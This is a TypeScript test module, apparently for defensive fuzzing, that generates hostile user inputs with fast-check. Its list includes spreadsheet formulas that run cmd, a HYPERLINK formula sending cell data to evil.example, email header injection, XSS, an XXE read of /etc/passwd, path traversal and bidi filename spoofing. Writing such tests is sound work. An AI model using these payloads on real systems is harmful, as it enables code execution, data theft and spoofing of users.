import fc from 'fast-check'

/** What somebody could type to become a formula, a header, an element, another line, or to be read in another direction. */
const known = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '"=cmd|\' /C calc\'!A0"',
  '=HYPERLINK("https://evil.example/?"&A1;"klik")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+31 6 1',
  '-2+3',
  '\t=1',
  '\r=1',
  '\u0000=1',
  '\u202e=1',
  '\u200b\ufeff=1',
  '\u0085=1',
  '\uff1d1+1',
  'a\n=1',
  'a";=1+1;"b',
  'a\r\nBcc: all@evil.example',
  'a\r\n\r\n<b>body</b>',
  'a\nSubject: x',
  'a\u2028Bcc: x\u2029y',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></textarea><svg onload=alert(1)>',
  ']]><x/><![CDATA[',
  '--><x/><!--',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&lt;&amp;&#x3c;',
  '{{code}}',
  '_x003D_1+1',
  'foto\u202egpj.exe',
  '\u2066naam\u2069',
  'a\u0000b\u0007\u001b[2J',
  '../../etc/passwd',
  'a\r\nEND:VEVENT\r\nBEGIN:VALARM;a,b\\n',
  '%0d%0aBcc: x',
  '=?utf-8?q?=0d=0aBcc:_x?=',
]

/** Such a text as it is, with something before it that is not seen, or with anything after it. */
export const hostile: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('', '', ' ', '\u00a0', '\u200e', '\u0001'),
    fc.constantFrom(...known),
    fc.oneof(fc.constant(''), fc.string({ unit: 'binary', maxLength: 12 })),
  )
  .map((parts) => parts.join(''))

/** The same, and half a letter: what a text that was cut may end with. */
export const broken: fc.Arbitrary<string> = fc.oneof(
  hostile,
  hostile.map((text) => `${text}\ud83d`),
)
